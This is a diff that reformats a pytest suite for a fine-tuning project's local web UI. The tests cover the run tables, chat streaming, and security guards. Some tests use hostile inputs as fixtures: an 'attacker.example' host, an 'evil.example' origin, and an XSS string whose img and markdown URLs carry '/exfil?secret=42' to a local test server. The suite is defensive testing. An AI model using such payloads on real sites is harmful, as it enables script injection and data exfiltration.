@@ -46,7 +46,9 @@ from .conftest import ROOT, TINY, make_cfg, run_main
 ARTIFACTS = ROOT / "outputs" / "test-artifacts" / "web"
 GREEDY = GenerationConfig(max_new_tokens=12)
 LONG_JOB = "3_+experiment=lora_vs_qlora,dataset.size=16,quantization=nf4,train.max_steps=4,lora.r=16"
-OTHER_HOST = "attacker.example"  # a name the test browser resolves to 127.0.0.1: another site, or DNS rebinding
+OTHER_HOST = (
+    "attacker.example"  # a name the test browser resolves to 127.0.0.1: another site, or DNS rebinding
+)
 
 
 @pytest.fixture(scope="module")
@@ -54,43 +56,73 @@ def outputs(tmp_path_factory):
     """An outputs folder with one tiny trained run (eval loss before and after) and a one-job sweep report."""
     out = tmp_path_factory.mktemp("web") / "outputs"
     run_dir = out / "tiny" / "run1"
-    result = run_main(*TINY, "quantization=none", "train.max_steps=4", f"paths.output_dir={out}",
-                      f"hydra.run.dir={run_dir}")
+    result = run_main(
+        *TINY, "quantization=none", "train.max_steps=4", f"paths.output_dir={out}", f"hydra.run.dir={run_dir}"
+    )
     assert result.returncode == 0, result.stderr[-3000:]
-    shutil.copytree(run_dir, out / "tiny" / "run2", ignore=shutil.ignore_patterns("checkpoints"))  # loses its adapter
+    shutil.copytree(
+        run_dir, out / "tiny" / "run2", ignore=shutil.ignore_patterns("checkpoints")
+    )  # loses its adapter
     job = out / "multirun" / "demo" / "0_quantization=none"
     shutil.copytree(run_dir, job, ignore=shutil.ignore_patterns("adapter", "checkpoints"))
     write_report(job.parent)
     # a sweep job's folder as Hydra names it: long, with `=`, `+` and `,`
-    shutil.copytree(run_dir, out / "multirun" / "2026-11-30" / "08-12-33" / LONG_JOB,
-                    ignore=shutil.ignore_patterns("checkpoints"))
+    shutil.copytree(
+        run_dir,
+        out / "multirun" / "2026-11-30" / "08-12-33" / LONG_JOB,
+        ignore=shutil.ignore_patterns("checkpoints"),
+    )
     return out
 
 
 # ---------------------------------------------------------------- page logic, no browser
 
-def write_job(path: Path, stages: list[str], metrics: dict, status: str = "completed", started: str = "") -> None:
+
+def write_job(
+    path: Path, stages: list[str], metrics: dict, status: str = "completed", started: str = ""
+) -> None:
     (path / ".hydra").mkdir(parents=True)
-    cfg = {"model": {"name_or_path": "m"}, "quantization": {"method": "nf4"}, "dataset": {"name": "alpaca", "size": 8},
-           "pipeline": {"stages": stages}}
+    cfg = {
+        "model": {"name_or_path": "m"},
+        "quantization": {"method": "nf4"},
+        "dataset": {"name": "alpaca", "size": 8},
+        "pipeline": {"stages": stages},
+    }
     OmegaConf.save(OmegaConf.create(cfg), path / ".hydra" / "config.yaml")
     (path / "run.json").write_text(json.dumps({"status": status, "started_at": started, "error": "boom"}))
     (path / "metrics.json").write_text(json.dumps(metrics))
 
 
 def test_runs_table_lists_runs_newest_first_without_the_web_app_itself(tmp_path):
-    write_job(tmp_path / "a" / "old", ["train"], {"eval/loss_before": 2.5, "eval/loss": 1.25},
-              started="2026-11-01T10:00:00+00:00")
-    write_job(tmp_path / "multirun" / "s" / "0_x=1", ["train"], {}, status="failed",
-              started="2026-11-02T10:00:00+00:00")
+    write_job(
+        tmp_path / "a" / "old",
+        ["train"],
+        {"eval/loss_before": 2.5, "eval/loss": 1.25},
+        started="2026-11-01T10:00:00+00:00",
+    )
+    write_job(
+        tmp_path / "multirun" / "s" / "0_x=1",
+        ["train"],
+        {},
+        status="failed",
+        started="2026-11-02T10:00:00+00:00",
+    )
     write_job(tmp_path / "run" / "web", ["web"], {}, started="2026-11-03T10:00:00+00:00")
     (tmp_path / "a" / "old" / "adapter").mkdir()  # a run's own subfolders are not runs
     rows = web_pages.runs_table(tmp_path)
     assert [r["run"] for r in rows] == ["multirun/s/0_x=1", "a/old"]
     old = rows[1]
-    assert old == {"run": "a/old", "started (UTC)": "2026-11-01 10:00", "model": "m", "quantization": "nf4",
-                   "dataset": "alpaca (8)", "stages": "train", "status": "completed",
-                   "eval loss before": "2.5000", "eval loss after": "1.2500"}
+    assert old == {
+        "run": "a/old",
+        "started (UTC)": "2026-11-01 10:00",
+        "model": "m",
+        "quantization": "nf4",
+        "dataset": "alpaca (8)",
+        "stages": "train",
+        "status": "completed",
+        "eval loss before": "2.5000",
+        "eval loss after": "1.2500",
+    }
     assert rows[0]["status"] == "failed: boom" and rows[0]["eval loss after"] == "–"
     assert web_pages.runs_table(tmp_path / "missing") == []
 
@@ -129,9 +161,13 @@ def test_sweep_page_shows_the_report_and_its_plots(outputs):
     assert "there are no LoRA/QLoRA pairs, so no verdict" in page["card"] and page["card_plot"] is None
     assert page["summary"].startswith("# Sweep report: demo") and "## Decision" not in page["summary"]
     start = summary.index("## Decision")
-    assert page["summary"] == summary[:start] + summary[summary.index("\n## ", start) + 1:]
-    assert [p.name for p in page["plots"]] == ["eval_loss.png", "learning_curves.png", "peak_memory.png",
-                                               "time_vs_size.png"]
+    assert page["summary"] == summary[:start] + summary[summary.index("\n## ", start) + 1 :]
+    assert [p.name for p in page["plots"]] == [
+        "eval_loss.png",
+        "learning_curves.png",
+        "peak_memory.png",
+        "time_vs_size.png",
+    ]
 
 
 def test_sweep_page_shows_the_decision_card_with_its_plot_and_only_files_inside_the_sweep(tmp_path):
@@ -144,12 +180,16 @@ def test_sweep_page_shows_the_decision_card_with_its_plot_and_only_files_inside_
     write_report(sweep)
     page = web_pages.sweep_page(sweep)
     card = page["card"]
-    assert card.startswith("# Decision: s") and "its eval loss is within noise of LoRA's from 16 examples on" in card
+    assert (
+        card.startswith("# Decision: s")
+        and "its eval loss is within noise of LoRA's from 16 examples on" in card
+    )
     assert "![decision]" not in card and page["card_plot"] == sweep / "decision.png"
     # the runs behind a row, by job number (the page cannot open a job folder link)
     row8 = next(line for line in card.splitlines() if line.startswith("| 8 |"))
-    assert "](" not in row8 and all(f"`{jobs[(q, 8, seed)].split('_')[0]}`" in row8
-                                    for q in ("none", "nf4") for seed in (42, 43, 44))
+    assert "](" not in row8 and all(
+        f"`{jobs[(q, 8, seed)].split('_')[0]}`" in row8 for q in ("none", "nf4") for seed in (42, 43, 44)
+    )
     assert [p.name for p in page["plots"]] == ["eval_loss.png", "peak_memory.png", "time_vs_size.png"]
     assert "## Decision" not in page["summary"] and "## Over the seeds" in page["summary"]
     # a card or plot that is a link out of the sweep folder is not read
@@ -159,14 +199,21 @@ def test_sweep_page_shows_the_decision_card_with_its_plot_and_only_files_inside_
         (sweep / name).unlink()
         (sweep / name).symlink_to(secret)
     page = web_pages.sweep_page(sweep)
-    assert page["card"] is None and page["card_plot"] is None and "eval_loss.png" not in [p.name for p in page["plots"]]
+    assert (
+        page["card"] is None
+        and page["card_plot"] is None
+        and "eval_loss.png" not in [p.name for p in page["plots"]]
+    )
 
 
 def test_conversation_is_rendered_as_in_training_and_trimmed_to_fit(tokenizer):
     d = DatasetConfig()
     messages = [{"role": "system", "content": "Be brief."}]
     for i in range(4):
-        messages += [{"role": "user", "content": f"question {i} " * 20}, {"role": "assistant", "content": f"answer {i}"}]
+        messages += [
+            {"role": "user", "content": f"question {i} " * 20},
+            {"role": "assistant", "content": f"answer {i}"},
+        ]
     messages.append({"role": "user", "content": "last question"})
     ids, kept = conversation_ids(messages, tokenizer, d, max_new_tokens=16, max_len=10_000)
     assert kept == messages
@@ -174,7 +221,7 @@ def test_conversation_is_rendered_as_in_training_and_trimmed_to_fit(tokenizer):
     short, kept = conversation_ids(messages, tokenizer, d, max_new_tokens=16, max_len=ids.shape[1] - 40)
     # the oldest exchanges go first; the system prompt and the newest message stay
     assert kept[0] == messages[0] and kept[-1] == messages[-1] and len(kept) < len(messages)
-    assert kept[1:] == messages[len(messages) - len(kept) + 1:]
+    assert kept[1:] == messages[len(messages) - len(kept) + 1 :]
     assert short.shape[1] + 16 <= ids.shape[1] - 40
 
 
@@ -266,18 +313,27 @@ def test_the_guard_refuses_foreign_hosts_cross_origin_posts_and_uploads():
     from starlette.testclient import TestClient
 
     ok = lambda request: PlainTextResponse("ok")  # noqa: E731
-    app = Starlette(routes=[Route("/config", ok), Route("/gradio_api/queue/join", ok, methods=["POST"]),
-                            Route("/gradio_api/upload", ok, methods=["POST"])])
+    app = Starlette(
+        routes=[
+            Route("/config", ok),
+            Route("/gradio_api/queue/join", ok, methods=["POST"]),
+            Route("/gradio_api/upload", ok, methods=["POST"]),
+        ]
+    )
     client = TestClient(Guard(app, served_names("127.0.0.1")), base_url="http://127.0.0.1:7860")
     page = client.get("/config")
     assert page.status_code == 200 and "img-src 'self'" in page.headers["content-security-policy"]
     assert client.get("/config", headers={"Host": "[::1]:7860"}).status_code == 200
     assert client.get("/config", headers={"Host": "attacker.example:7860"}).status_code == 400
-    assert client.post("/gradio_api/queue/join", headers={"Origin": "http://127.0.0.1:7860"}).status_code == 200
+    assert (
+        client.post("/gradio_api/queue/join", headers={"Origin": "http://127.0.0.1:7860"}).status_code == 200
+    )
     assert client.post("/gradio_api/queue/join", headers={"Origin": "http://evil.example"}).status_code == 403
     assert client.post("/gradio_api/queue/join", headers={"Origin": "null"}).status_code == 403
     assert client.post("/gradio_api/upload", headers={"Origin": "http://127.0.0.1:7860"}).status_code == 403
-    assert "attacker.example" in served_names("attacker.example") and served_names("0.0.0.0") > served_names("127.0.0.1")
+    assert "attacker.example" in served_names("attacker.example") and served_names("0.0.0.0") > served_names(
+        "127.0.0.1"
+    )
 
 
 def test_model_cache_keeps_models_within_its_budget(outputs):
@@ -326,13 +382,16 @@ def test_adapter_mode_loads_what_the_run_trained(outputs):
 
 # ---------------------------------------------------------------- the real app in a real browser
 
+
 def browser_paths() -> tuple[str, str]:
     chromium = os.environ.get("CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
     driver = os.environ.get("CHROMEDRIVER") or shutil.which("chromedriver")
     if not chromium or not driver:
-        pytest.fail("the web app's browser tests need Chromium and its driver: install them with "
-                    "`sudo apt-get install -y chromium chromium-driver` (Debian/Ubuntu; .ci/run does this), or "
-                    "point CHROMIUM= and CHROMEDRIVER= at a matching pair.")
+        pytest.fail(
+            "the web app's browser tests need Chromium and its driver: install them with "
+            "`sudo apt-get install -y chromium chromium-driver` (Debian/Ubuntu; .ci/run does this), or "
+            "point CHROMIUM= and CHROMEDRIVER= at a matching pair."
+        )
     return chromium, driver
 
 
@@ -350,8 +409,11 @@ def test_a_port_in_use_is_refused_in_one_sentence():
         taken.bind(("127.0.0.1", 0))
         taken.listen()
         port = taken.getsockname()[1]
-        with pytest.raises(ConfigError, match=rf"^web.host=127.0.0.1 web.port={port} cannot be served .*; pick a "
-                                              rf"free port with web.port=N, or a local address for web.host.$"):
+        with pytest.raises(
+            ConfigError,
+            match=rf"^web.host=127.0.0.1 web.port={port} cannot be served .*; pick a "
+            rf"free port with web.port=N, or a local address for web.host.$",
+        ):
             check_port("127.0.0.1", port)
     check_port("127.0.0.1", port)  # free again
 
@@ -368,9 +430,22 @@ def launch(args: list[str], job: Path, **env) -> tuple[subprocess.Popen, str, li
     """`python -m qlora_lab pipeline=web ARGS` on a free port: (process, its URL, its output lines as they come)."""
     port = free_port()
     env = dict(os.environ, PYTHONUNBUFFERED="1", HF_HUB_OFFLINE="1", TOKENIZERS_PARALLELISM="false", **env)
-    proc = subprocess.Popen([sys.executable, "-m", "qlora_lab", "pipeline=web", *args, f"web.port={port}",
-                             f"hydra.run.dir={job}"],
-                            cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
+    proc = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "qlora_lab",
+            "pipeline=web",
+            *args,
+            f"web.port={port}",
+            f"hydra.run.dir={job}",
+        ],
+        cwd=ROOT,
+        env=env,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+        text=True,
+    )
     lines: list[str] = []
     ready = threading.Event()
 
@@ -401,9 +476,16 @@ def stop(proc: subprocess.Popen, lines: list[str], job: Path) -> None:
 def app(outputs, tmp_path_factory):
     """The app on a tiny trained run, with GRADIO_TEMP_DIR in a folder of its own."""
     temp_dir, job = tmp_path_factory.mktemp("gradio_tmp"), tmp_path_factory.mktemp("web_job")
-    proc, url, lines = launch([f"run_dir={outputs / 'tiny' / 'run1'}", "model=tiny_random",
-                               "generation.max_new_tokens=48", f"paths.output_dir={outputs}"], job,
-                              GRADIO_TEMP_DIR=str(temp_dir))
+    proc, url, lines = launch(
+        [
+            f"run_dir={outputs / 'tiny' / 'run1'}",
+            "model=tiny_random",
+            "generation.max_new_tokens=48",
+            f"paths.output_dir={outputs}",
+        ],
+        job,
+        GRADIO_TEMP_DIR=str(temp_dir),
+    )
     yield Server(url, int(url.rsplit(":", 1)[1]), lines, temp_dir)
     stop(proc, lines, job)
 
@@ -415,8 +497,11 @@ def test_web_auth_asks_for_a_login_and_stays_off_disk(outputs, tmp_path):
     import urllib.request
 
     job = tmp_path / "job"
-    proc, url, lines = launch(["model=tiny_random", "web.auth=${oc.env:WEB_LOGIN}", f"paths.output_dir={outputs}"],
-                              job, WEB_LOGIN="me:a-long-secret")
+    proc, url, lines = launch(
+        ["model=tiny_random", "web.auth=${oc.env:WEB_LOGIN}", f"paths.output_dir={outputs}"],
+        job,
+        WEB_LOGIN="me:a-long-secret",
+    )
     try:
         with pytest.raises(urllib.error.HTTPError) as refused:
             urllib.request.urlopen(f"{url}/config", timeout=30)
@@ -425,7 +510,9 @@ def test_web_auth_asks_for_a_login_and_stays_off_disk(outputs, tmp_path):
         def login(password: str) -> int:
             form = urllib.parse.urlencode({"username": "me", "password": password}).encode()
             try:
-                with urllib.request.urlopen(urllib.request.Request(f"{url}/login", form), timeout=30) as answer:
+                with urllib.request.urlopen(
+                    urllib.request.Request(f"{url}/login", form), timeout=30
+                ) as answer:
                     return answer.status
             except urllib.error.HTTPError as e:
                 return e.code
@@ -475,8 +562,14 @@ def browser(app_url):
 
     options = webdriver.ChromeOptions()
     options.binary_location = chromium  # the system browser and driver: nothing is downloaded
-    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu",
-                "--window-size=1280,1000", f"--host-resolver-rules=MAP {OTHER_HOST} 127.0.0.1"):
+    for arg in (
+        "--headless=new",
+        "--no-sandbox",
+        "--disable-dev-shm-usage",
+        "--disable-gpu",
+        "--window-size=1280,1000",
+        f"--host-resolver-rules=MAP {OTHER_HOST} 127.0.0.1",
+    ):
         options.add_argument(arg)
     browser = webdriver.Chrome(service=Service(driver), options=options)
     browser.get(app_url)
@@ -505,8 +598,10 @@ def text_of(browser, element_id: str) -> str:
 def open_tab(browser, name: str) -> None:
     from selenium.webdriver.common.by import By
 
-    wait_for(lambda: browser.find_elements(By.XPATH, f"//button[@role='tab'][contains(., '{name}')]"),
-             what=f"the {name} tab")[0].click()
+    wait_for(
+        lambda: browser.find_elements(By.XPATH, f"//button[@role='tab'][contains(., '{name}')]"),
+        what=f"the {name} tab",
+    )[0].click()
 
 
 def test_chat_page_streams_a_reply(browser):
@@ -523,8 +618,10 @@ def test_chat_page_streams_a_reply(browser):
         }).observe(root, {subtree: true, childList: true, characterData: true});""")
     browser.find_element(By.CSS_SELECTOR, "#chat-input textarea").send_keys("Say hello.")
     browser.find_element(By.ID, "chat-send").click()
-    status = wait_for(lambda: (s := text_of(browser, "chat-status")) and ("tokens/s" in s or "error" in s) and s,
-                      what="the reply's status line")
+    status = wait_for(
+        lambda: (s := text_of(browser, "chat-status")) and ("tokens/s" in s or "error" in s) and s,
+        what="the reply's status line",
+    )
     assert "error" not in status and "adapter model" in status and "time to first token" in status, status
     reply = browser.find_elements(By.CSS_SELECTOR, '#chat-history [data-testid="bot"]')[-1].text.strip()
     assert reply and "Say hello." in text_of(browser, "chat-history")
@@ -532,19 +629,25 @@ def test_chat_page_streams_a_reply(browser):
     assert len(set(lengths)) >= 2 and sorted(lengths) == lengths, lengths  # it grew in the page: streamed
     browser.save_screenshot(str(ARTIFACTS / "chat.png"))
     browser.find_element(By.ID, "chat-reset").click()
-    wait_for(lambda: not browser.find_elements(By.CSS_SELECTOR, '#chat-history [data-testid="bot"]'),
-             what="the reset to clear the conversation")
+    wait_for(
+        lambda: not browser.find_elements(By.CSS_SELECTOR, '#chat-history [data-testid="bot"]'),
+        what="the reset to clear the conversation",
+    )
 
 
 def test_a_failed_load_shows_its_error_and_the_app_keeps_serving(browser, outputs):
     from selenium.webdriver.common.by import By
 
     choose(browser, "run-select", "tiny/run2")
-    time.sleep(3)  # let the page finish switching runs (it lists run2's modes from its files) before the files go
+    time.sleep(
+        3
+    )  # let the page finish switching runs (it lists run2's modes from its files) before the files go
     shutil.rmtree(outputs / "tiny" / "run2" / "adapter")  # gone after the page listed it
     browser.find_element(By.CSS_SELECTOR, "#chat-input textarea").send_keys("Hello?")
     browser.find_element(By.ID, "chat-send").click()
-    status = wait_for(lambda: "error" in (s := text_of(browser, "chat-status")) and s, what="the error in the page")
+    status = wait_for(
+        lambda: "error" in (s := text_of(browser, "chat-status")) and s, what="the error in the page"
+    )
     assert "run2 has no trained adapter" in status, status
     browser.save_screenshot(str(ARTIFACTS / "chat_error.png"))
     choose(browser, "run-select", "tiny/run1")
@@ -558,34 +661,56 @@ def choose(browser, element_id: str, value: str) -> None:
     from selenium.webdriver.common.by import By
 
     browser.find_element(By.CSS_SELECTOR, f"#{element_id} input").click()
-    wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, f'#{element_id} li[role="option"][aria-label="{value}"]'),
-             what=f"option {value} of {element_id}")[0].click()
+    wait_for(
+        lambda: browser.find_elements(
+            By.CSS_SELECTOR, f'#{element_id} li[role="option"][aria-label="{value}"]'
+        ),
+        what=f"option {value} of {element_id}",
+    )[0].click()
 
 
-def compare_answers(browser, left: str, right: str, timeout: float = 60) -> tuple[tuple[str, str], tuple[str, str]]:
+def compare_answers(
+    browser, left: str, right: str, timeout: float = 60
+) -> tuple[tuple[str, str], tuple[str, str]]:
     """Click the button; wait until each side shows its mode's numbers; ((stats, answer) left, (stats, answer) right)."""
     from selenium.webdriver.common.by import By
 
     browser.find_element(By.ID, "sbs-send").click()
-    wait_for(lambda: all(text_of(browser, f"{side}-stats").startswith(f"{mode}: ")
-                         and "tokens/s" in text_of(browser, f"{side}-stats")
-                         for side, mode in (("sbs-a", left), ("sbs-b", right))), timeout, "both answers' numbers")
-    return tuple((text_of(browser, f"{side}-stats"),
-                  browser.find_element(By.CSS_SELECTOR, f"#{side} textarea").get_attribute("value"))
-                 for side in ("sbs-a", "sbs-b"))
+    wait_for(
+        lambda: all(
+            text_of(browser, f"{side}-stats").startswith(f"{mode}: ")
+            and "tokens/s" in text_of(browser, f"{side}-stats")
+            for side, mode in (("sbs-a", left), ("sbs-b", right))
+        ),
+        timeout,
+        "both answers' numbers",
+    )
+    return tuple(
+        (
+            text_of(browser, f"{side}-stats"),
+            browser.find_element(By.CSS_SELECTOR, f"#{side} textarea").get_attribute("value"),
+        )
+        for side in ("sbs-a", "sbs-b")
+    )
 
 
 def test_side_by_side_page_shows_two_answers(browser):
     from selenium.webdriver.common.by import By
 
     open_tab(browser, "Side by side")
-    box = wait_for(lambda: [b for b in browser.find_elements(By.CSS_SELECTOR, "#sbs-input textarea") if b.is_displayed()],
-                   what="the side-by-side prompt")[0]
+    box = wait_for(
+        lambda: [
+            b for b in browser.find_elements(By.CSS_SELECTOR, "#sbs-input textarea") if b.is_displayed()
+        ],
+        what="the side-by-side prompt",
+    )[0]
     box.send_keys("Name a colour.")
     # base vs fine-tuned by default (the random base model answers with newlines only: its text is blank)
     (left, _), (right, answer) = compare_answers(browser, "base", "adapter")
     browser.save_screenshot(str(ARTIFACTS / "side_by_side.png"))
-    assert int(left.split()[1]) > 0 and int(right.split()[1]) > 0 and answer.strip()  # "<mode>: N tokens in ..."
+    assert (
+        int(left.split()[1]) > 0 and int(right.split()[1]) > 0 and answer.strip()
+    )  # "<mode>: N tokens in ..."
     # the adapter merged in memory is the same model: the same greedy answer on the left
     choose(browser, "sbs-mode-a", "merge_and_unload")
     (left, left_answer), (right, right_answer) = compare_answers(browser, "merge_and_unload", "adapter")
@@ -597,12 +722,16 @@ def test_runs_page_lists_the_run_and_its_eval_loss(browser, outputs):
 
     metrics = json.loads((outputs / "tiny" / "run1" / "metrics.json").read_text())
     open_tab(browser, "Runs")
-    table = wait_for(lambda: "tiny/run1" in text_of(browser, "runs-table") and text_of(browser, "runs-table"),
-                     what="the run in the runs table")
+    table = wait_for(
+        lambda: "tiny/run1" in text_of(browser, "runs-table") and text_of(browser, "runs-table"),
+        what="the run in the runs table",
+    )
     assert f"{metrics['eval/loss']:.4f}" in table and f"{metrics['eval/loss_before']:.4f}" in table, table
     assert "multirun/demo/0_quantization=none" in table
     choose(browser, "run-open", "tiny/run1")
-    wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#run-loss img, #run-loss svg"), what="the loss curve")
+    wait_for(
+        lambda: browser.find_elements(By.CSS_SELECTOR, "#run-loss img, #run-loss svg"), what="the loss curve"
+    )
     wait_for(lambda: "eval/loss_before" in text_of(browser, "run-metrics"), what="metrics.json")
     browser.save_screenshot(str(ARTIFACTS / "runs.png"))
 
@@ -612,18 +741,25 @@ def test_sweeps_page_shows_the_report(browser):
 
     open_tab(browser, "Sweeps")
     wait_for(lambda: "Sweep report: demo" in text_of(browser, "sweep-summary"), what="the sweep's summary.md")
-    wait_for(lambda: "no LoRA/QLoRA pairs, so no verdict" in text_of(browser, "sweep-card"), what="the decision card")
+    wait_for(
+        lambda: "no LoRA/QLoRA pairs, so no verdict" in text_of(browser, "sweep-card"),
+        what="the decision card",
+    )
     wait_for(lambda: len(browser.find_elements(By.CSS_SELECTOR, "#sweep-plots img")) >= 3, what="the plots")
     browser.save_screenshot(str(ARTIFACTS / "sweeps.png"))
 
 
 # ---------------------------------------------------------------- safe on a shared machine, finished where a user looks
 
+
 def server_line(app: Server, text: str, since: int, timeout: float) -> str:
     """The first line of the app's output from line `since` on that holds `text`."""
     try:
-        return wait_for(lambda: next((line for line in app.lines[since:] if text in line), None), timeout,
-                        f"{text!r} in the app's output")
+        return wait_for(
+            lambda: next((line for line in app.lines[since:] if text in line), None),
+            timeout,
+            f"{text!r} in the app's output",
+        )
     except AssertionError as e:
         raise AssertionError(f"{e}; its output since:\n{''.join(app.lines[since:])[-3000:]}") from None
 
@@ -634,9 +770,13 @@ def set_max_new_tokens(browser, n: int) -> None:
 
     css = "#max-new-tokens input[type=number]"
     if not [b for b in browser.find_elements(By.CSS_SELECTOR, css) if b.is_displayed()]:
-        wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#settings button"), what="the settings")[0].click()
-    box = wait_for(lambda: [b for b in browser.find_elements(By.CSS_SELECTOR, css) if b.is_displayed()],
-                   what="the generation settings")[0]
+        wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#settings button"), what="the settings")[
+            0
+        ].click()
+    box = wait_for(
+        lambda: [b for b in browser.find_elements(By.CSS_SELECTOR, css) if b.is_displayed()],
+        what="the generation settings",
+    )[0]
     box.send_keys(Keys.CONTROL, "a")
     box.send_keys(str(n), Keys.TAB)
     wait_for(lambda: box.get_attribute("value") == str(n), what=f"max new tokens = {n}")
@@ -653,8 +793,11 @@ def send_message(browser, text: str) -> None:
 
 def bubbles(browser, who: str) -> list[str]:
     """The text of the chat's user or bot messages, read at once (a streaming page replaces them as it goes)."""
-    return browser.execute_script("""return [...document.querySelectorAll('#chat-history [data-testid]')]
-        .filter(b => b.dataset.testid === arguments[0]).map(b => b.innerText)""", who)
+    return browser.execute_script(
+        """return [...document.querySelectorAll('#chat-history [data-testid]')]
+        .filter(b => b.dataset.testid === arguments[0]).map(b => b.innerText)""",
+        who,
+    )
 
 
 def test_a_foreign_host_is_refused(browser, app):
@@ -700,15 +843,19 @@ def test_typed_html_is_shown_as_text_and_no_remote_image_is_fetched(browser, app
     from selenium.webdriver.common.by import By
 
     browser.get(app.url)
-    typed = (f'<script>window.pwned = 1</script> <img src="{other_site.url}/exfil-img?secret=42"> '
-             f'![x]({other_site.url}/exfil-md?secret=42) **not bold** a_b_c')
+    typed = (
+        f'<script>window.pwned = 1</script> <img src="{other_site.url}/exfil-img?secret=42"> '
+        f"![x]({other_site.url}/exfil-md?secret=42) **not bold** a_b_c"
+    )
     send_message(browser, typed)
     wait_for(lambda: "tokens/s" in text_of(browser, "chat-status"), what="the reply")
     assert bubbles(browser, "user")[-1].strip() == typed
     assert not browser.find_elements(By.CSS_SELECTOR, "#chat-history img, #chat-history strong")
     # however an image got into the page (a reply), its policy lets the browser fetch none from elsewhere
-    browser.execute_script(f"const i = document.createElement('img'); i.src = '{other_site.url}/exfil-csp'; "
-                           f"document.body.appendChild(i);")
+    browser.execute_script(
+        f"const i = document.createElement('img'); i.src = '{other_site.url}/exfil-csp'; "
+        f"document.body.appendChild(i);"
+    )
     time.sleep(2)
     assert not [p for p in other_site.requested if "exfil" in p], other_site.requested
     assert browser.execute_script("return window.pwned") is None
@@ -721,7 +868,9 @@ def answer_started(browser) -> None:
         wait_for(lambda: "generating" in text_of(browser, "chat-status"), what="the answer to start")
     except AssertionError:
         browser.save_screenshot(str(ARTIFACTS / "no_answer.png"))
-        raise AssertionError(f"no answer started; the status says {text_of(browser, 'chat-status')!r}") from None
+        raise AssertionError(
+            f"no answer started; the status says {text_of(browser, 'chat-status')!r}"
+        ) from None
 
 
 def test_stop_ends_the_generation_and_keeps_the_answer_so_far(browser, app):
@@ -739,7 +888,9 @@ def test_stop_ends_the_generation_and_keeps_the_answer_so_far(browser, app):
         raise
     ended_s = time.monotonic() - clicked
     assert "(stop button)" in line and ended_s < 5, (line, ended_s)
-    status = wait_for(lambda: "stopped:" in (s := text_of(browser, "chat-status")) and s, what="the stopped status")
+    status = wait_for(
+        lambda: "stopped:" in (s := text_of(browser, "chat-status")) and s, what="the stopped status"
+    )
     tokens = int(status.split("stopped: ")[1].split()[0])
     assert 0 < tokens < 1024 and bubbles(browser, "bot")[-1].strip(), status
     browser.find_element(By.ID, "chat-reset").click()
@@ -786,7 +937,9 @@ def test_a_run_outside_the_roots_is_refused(browser, app, outputs, tmp_path):
     elsewhere = tmp_path / "elsewhere"
     shutil.copytree(outputs / "tiny" / "run1", elsewhere)  # a real run: loading it would work
     browser.get(app.url)
-    box = wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#run-select input"), what="the run list")[0]
+    box = wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#run-select input"), what="the run list")[
+        0
+    ]
     box.click()
     box.send_keys(Keys.CONTROL, "a")
     box.send_keys(str(elsewhere), Keys.ENTER)
@@ -796,7 +949,9 @@ def test_a_run_outside_the_roots_is_refused(browser, app, outputs, tmp_path):
     since = len(app.lines)
     client = Client(app.url, verbose=False)
     try:
-        result = client.predict("hi", str(elsewhere), "base", "", False, 1.0, 50, 1.0, 4, 1.0, api_name="/respond")
+        result = client.predict(
+            "hi", str(elsewhere), "base", "", False, 1.0, 50, 1.0, 4, 1.0, api_name="/respond"
+        )
         said = str(result[-1])
     except Exception as e:  # noqa: BLE001 - Gradio's own check of the choices may answer first
         said = str(e)
@@ -809,13 +964,21 @@ def test_a_sweep_plot_is_shown_whole(browser, app):
 
     browser.get(app.url)
     open_tab(browser, "Sweeps")
-    plots = wait_for(lambda: len(found := browser.find_elements(By.CSS_SELECTOR, "#sweep-plots img")) >= 3 and found,
-                     what="the plots")
+    plots = wait_for(
+        lambda: len(found := browser.find_elements(By.CSS_SELECTOR, "#sweep-plots img")) >= 3 and found,
+        what="the plots",
+    )
     browser.execute_script("arguments[0].scrollIntoView()", plots[0])
-    wait_for(lambda: all(browser.execute_script("return arguments[0].complete && arguments[0].naturalWidth", p)
-                         for p in plots), what="the plots to load")
+    wait_for(
+        lambda: all(
+            browser.execute_script("return arguments[0].complete && arguments[0].naturalWidth", p)
+            for p in plots
+        ),
+        what="the plots to load",
+    )
     for plot in plots:
-        box = browser.execute_script("""
+        box = browser.execute_script(
+            """
             const img = arguments[0], r = img.getBoundingClientRect();
             const fit = getComputedStyle(img).objectFit;
             let w = r.width, h = r.height;  // the drawn picture inside the box, for object-fit: contain
@@ -829,7 +992,9 @@ def test_a_sweep_plot_is_shown_whole(browser, app):
                 if ((o.overflow + o.overflowX + o.overflowY).includes('hidden') &&
                     (q.width + 1 < w || q.height + 1 < h)) clipped = true;
             }
-            return {w, h, nw: img.naturalWidth, nh: img.naturalHeight, fit, clipped};""", plot)
+            return {w, h, nw: img.naturalWidth, nh: img.naturalHeight, fit, clipped};""",
+            plot,
+        )
         assert box["fit"] != "cover" and not box["clipped"], box
         assert box["w"] / box["h"] == pytest.approx(box["nw"] / box["nh"], rel=0.02), box
     browser.save_screenshot(str(ARTIFACTS / "sweep_plots.png"))
@@ -841,11 +1006,15 @@ def test_chat_input_and_send_are_in_view_at_1400x900(browser, app):
     page_size(browser, 1400, 900)
     try:
         browser.get(app.url)
-        wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"), what="the chat input")
+        wait_for(
+            lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"), what="the chat input"
+        )
         height = browser.execute_script("return window.innerHeight")
         for css in ("#chat-input textarea", "#chat-send", "#chat-stop"):
-            bottom = browser.execute_script("return arguments[0].getBoundingClientRect().bottom",
-                                            browser.find_element(By.CSS_SELECTOR, css))
+            bottom = browser.execute_script(
+                "return arguments[0].getBoundingClientRect().bottom",
+                browser.find_element(By.CSS_SELECTOR, css),
+            )
             assert bottom <= height, (css, bottom, height)
         browser.save_screenshot(str(ARTIFACTS / "chat_1400x900.png"))
     finally:
@@ -873,8 +1042,10 @@ def test_runs_table_fits_long_names_and_says_utc(browser, app):
     assert long_row <= 1.6 * short_row, rows  # the date and the losses take two lines: the name three at most
